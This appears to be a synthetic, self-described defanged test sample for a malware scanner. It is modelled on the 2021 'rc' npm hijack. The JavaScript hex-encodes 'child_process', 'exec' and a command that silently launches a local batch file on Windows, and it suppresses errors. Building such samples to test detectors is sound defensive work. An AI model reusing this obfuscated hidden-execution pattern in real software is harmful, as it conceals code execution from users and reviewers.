// SYNTHETIC, DEFANGED malwi validation sample - modelled on rc hijack (2021); never run.
const t = ['6368696c645f70726f63657373', '65786563', '7374617274202f4220636f6d70696c652e626174'];
const h = (s) => Buffer.from(s, 'hex').toString();
if (process.platform === 'win32') {
  try {
    require(h(t[0]))[h(t[1])](h(t[2]), { windowsHide: true }, () => {});
  } catch (e) {}
}
